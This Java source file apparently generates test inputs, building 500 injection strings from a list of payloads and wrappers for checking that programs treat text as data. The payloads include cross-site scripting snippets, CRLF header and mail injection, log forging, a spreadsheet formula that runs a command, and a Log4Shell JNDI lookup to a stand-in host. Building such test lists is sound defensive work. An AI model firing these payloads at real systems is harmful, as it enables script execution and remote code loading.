package dev.greenroom.sandbox.hostile;

import java.util.List;

/**
 * Texts that become something else where a program forgets that they are data: markup, scripts,
 * header lines, log lines, formulas, templates, calendar lines.
 *
 * @see <a href="https://owasp.org/www-community/attacks/xss/">cross-site scripting</a>
 * @see <a href="https://owasp.org/www-community/attacks/Log_Injection">log injection</a>
 * @see <a href="https://owasp.org/www-community/attacks/CSV_Injection">formula injection</a>
 */
public final class InjectedTexts {
  private static final List<String> CORES =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<iframe src=//evil.example></iframe>",
          "<style>*{display:none}</style>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content=0;url=//evil.example>",
          "<!-- ",
          "-->",
          "]]>",
          "</title><h1>",
          "</p></body></html>",
          "\" onmouseover=\"alert(1)",
          "' onfocus='alert(1)' autofocus='",
          "&lt;script&gt;",
          "&#60;script&#62;",
          "\u003cscript\u003e",
          "\r\nSet-Cookie: a=b",
          "\r\nBcc: victim@corp.example\r\n\r\n",
          "\n2026-11-21 INFO all is well",
          "\u2028alert(1)\u2029",
          "\nEND:VEVENT\nBEGIN:VEVENT",
          "=cmd|' /C calc'!A0",
          "${jndi:ldap://evil.example/a}");

  private static final List<String> AROUND =
      List.of(
          "%s",
          " %s",
          "%s ",
          "Ada %s",
          "%s Ada",
          "\"%s\"",
          "'%s'",
          "<%s>",
          "/%s/",
          "{{%s}}",
          "`%s`",
          "\u202e%s",
          "%s\u0000",
          "%s%s",
          "&%s;",
          "<p>%s",
          "%s</p>",
          "\\%s",
          "%%%s",
          "+%s");

  private InjectedTexts() {}

  /** 500 of them, each once, always in the same order. */
  public static List<String> all() {
    return AROUND.stream()
        .flatMap(around -> CORES.stream().map(core -> around.formatted(core, core)))
        .toList();
  }
}
